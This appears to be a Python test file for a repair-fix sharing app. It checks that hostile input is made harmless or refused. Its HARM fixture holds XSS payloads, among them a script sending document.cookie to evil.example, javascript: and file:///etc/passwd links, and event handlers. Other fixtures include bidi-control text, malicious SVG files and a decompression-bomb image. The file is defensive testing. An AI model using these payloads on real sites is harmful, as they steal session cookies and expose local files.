"""What is written to do harm, from the command line over a real server to a colleague's laptop:
shown harmless, or refused with a reason; and what was typed is never lost.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from contextlib import closing
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from fieldkm.app.outgoing import OutgoingState
from fieldkm.domain.fixes import Fix, FixRevision, Transition, Verb
from fieldkm.errors import BadInput
from fieldkm.protocol.operations import Operation, fix_step
from tests.support.console import Console
from tests.support.fix_people import FixPeople, a_cold_fuser, fix_people, improved, seen, submitted
from tests.support.laptop import CLOCK, Laptop
from tests.support.pictures import (
    GPS,
    ORIENTATION,
    decoded,
    encoded,
    photo,
    png_of_nothing,
    taken_in_berlin,
)

pytestmark = pytest.mark.usefixtures("no_keyring")

HARM = """
<script>fetch("http://evil.example/" + document.cookie)</script>
<style>body { background: url(http://evil.example/x.png) }</style>
<img src="http://evil.example/pixel.png" onerror="alert(1)">
<iframe src="file:///etc/passwd"></iframe>
<svg onload="alert(1)"><script>alert(2)</script></svg>
<a href="javascript:alert(1)">one</a> [two](javascript:alert(2)) [three](file:///etc/passwd)
[four](JaVaScRiPt:alert(3)) [five](data:text/html;base64,PHNjcmlwdD4=) <vbscript:x>
![six](http://evil.example/six.png) ![seven](file:///etc/passwd) ![eight](//evil.example/e.png)
<b style="position:fixed;font-size:900px" onclick="x()">Clean</b> pin 8.
"""
TURNED = "Fit the fuse \u202eRETAL\u202c never\u200b \u2066now\u2069"
HIDDEN = "\u202e\u202c\u200b\u2066\u2069"
FIX = {
    "title": "Fuser <b>cold</b> <script>alert(1)</script>",
    "symptom": TURNED,
    "cause": "<!-- --> & < > \" '",
    "remedy": HARM,
    "models": ["MX-420"],
    "fault_codes": ["E21-04"],
    "safety": False,
}
_TAGS = {"script", "style", "iframe", "svg", "object", "embed", "link", "meta", "form", "input"}


@pytest.fixture
def people(tmp_path: Path) -> Iterator[FixPeople]:
    with fix_people(tmp_path) as found:
        yield found


class Harm(HTMLParser):
    """Collects what of a page would run or be fetched."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in _TAGS:
            self.found.append(tag)
        for name, value in attrs:
            scheme = urlsplit((value or "").strip()).scheme.lower()
            fetched = name == "src" and (scheme or (value or "").startswith("//"))
            if name.startswith("on") or fetched or scheme in ("javascript", "file", "data"):
                self.found.append(f"{tag} {name}={value}")


def test_what_would_run_or_be_fetched_is_harmless_at_the_colleagues(
    people: FixPeople, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    console = Console(people.anna.workplace.home.folder, capsys)
    file = tmp_path / "fix.json"
    file.write_text(json.dumps(FIX), encoding="utf-8")
    (draft,) = console.json("fix", "new", "--from", file).objects
    assert console.json("fix", "submit", draft["id"]).status == 0
    people.all_sync(2)

    people.sue.workplace.review_desk.approve(draft["id"], draft["revision"])
    people.all_sync(2)
    for laptop in (people.carl, people.bert, people.sue):
        read = laptop.workplace.fixes.read(draft["id"])
        assert read.shown
        texts = laptop.workplace.fix_texts.of(read.shown)
        for text in (texts.symptom, texts.cause, texts.remedy):
            assert Harm(text.html).found == []
            assert not any(link.startswith(("javascript", "file", "data")) for link in text.links)
        assert "pin 8" in texts.remedy.plain
        told = Console(laptop.workplace.home.folder, capsys).run("fix", "show", draft["id"])
        assert told.status == 0
        assert not set(HIDDEN) & set(told.out + read.shown.symptom + read.line.title)
    people.assert_agreed()


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("drawing.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"),
        ("named.jpg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
        ("words.png", b"this is no picture"),
        ("cut.jpg", encoded(photo(), "JPEG")[:900]),
        ("empty.jpg", b""),
        ("fifty-megapixels.png", png_of_nothing(8_660, 5_774)),
        ("hundred-megapixels.png", png_of_nothing(10_000, 10_000)),
        ("bomb.png", png_of_nothing(60_000, 60_000)),
    ],
)
def test_a_picture_that_is_none_is_refused_with_a_reason_and_the_draft_stays(
    tmp_path: Path, name: str, content: bytes
) -> None:
    with closing(Laptop(tmp_path / "anna")) as anna:
        drafts = anna.workplace.fix_drafts
        draft = a_cold_fuser(anna)
        drafts.add_photo(draft.id, encoded(photo(), "JPEG"), "sound")
        before = drafts.of(draft.id)
        file = tmp_path / name
        file.write_bytes(content)
        with pytest.raises(BadInput) as caught:
            drafts.add_photo(draft.id, file)
        assert name in str(caught.value)
        assert caught.value.advice
        assert drafts.of(draft.id) == before


def test_a_large_photo_with_its_place_travels_small_and_without_it(people: FixPeople) -> None:
    draft = a_cold_fuser(people.anna)
    taken = encoded(photo(4_000, 3_000), "JPEG", exif=taken_in_berlin(orientation=6))
    people.anna.workplace.fix_drafts.add_photo(draft.id, taken)
    people.anna.workplace.fix_drafts.submit(draft.id)
    people.all_sync(2)
    shown = people.carl.workplace.fixes.read(draft.fix).shown
    assert shown
    path = people.carl.workplace.fix_drafts.photo_file(shown.photos[0])
    assert path
    picture = decoded(path.read_bytes())
    assert max(picture.size) < 4_000
    assert picture.height > picture.width  # turned as it was taken
    assert GPS not in picture.getexif()
    assert ORIENTATION not in picture.getexif()


def test_a_laptop_that_keeps_to_no_rule_harms_nobody_and_its_own_work_goes_on(
    people: FixPeople,
) -> None:
    fix = submitted(people.anna)
    people.all_sync(2)
    carl = people.carl
    text = FixRevision(CLOCK.new_id(), fix.id, CLOCK.now(), fix.current_revision, title="Better")
    text = replace(text, symptom="It squeaks", remedy="Oil", safety=False)
    carl.outbox.perform(
        [
            step(Verb.APPROVE, fix, fix.current_revision),
            step(Verb.RETIRE, fix, fix.current_revision, reason="I do not like it"),
            submission(fix, replace(text, id=CLOCK.new_id(), remedy=TURNED)),
            submission(fix, replace(text, id=CLOCK.new_id(), remedy="x" * 200_000)),
        ]
    )
    good = improved(carl, fix.id, "Clean the pins")
    people.all_sync(2)

    waiting = carl.sync.outgoing()
    assert [item.state for item in waiting] == [OutgoingState.REJECTED] * 4
    assert all(item.problem for item in waiting)
    now = seen(people.sue, fix.id)
    assert now.approved_revision == ""
    assert now.retired_as is None
    assert now.waiting[-1] == good.current_revision
    remedies = {item.remedy for item in people.sue.workplace.records.of_type(FixRevision)}
    assert remedies == {a_text(people.anna, fix), "Clean the pins"}
    people.assert_agreed()


def step(verb: Verb, fix: Fix, revision: str, reason: str = "") -> Operation:
    now = CLOCK.now()
    made = Transition(CLOCK.new_id(), fix.id, verb, now, revision, reason=reason)
    return fix_step(CLOCK.new_id(), made, now)


def submission(fix: Fix, revision: FixRevision) -> Operation:
    now = CLOCK.now()
    made = Transition(CLOCK.new_id(), fix.id, Verb.SUBMIT, now, revision.id)
    return fix_step(CLOCK.new_id(), made, now, revision=revision)


def a_text(laptop: Laptop, fix: Fix) -> str:
    revision = laptop.workplace.records.get(FixRevision, fix.current_revision)
    assert revision
    return revision.remedy
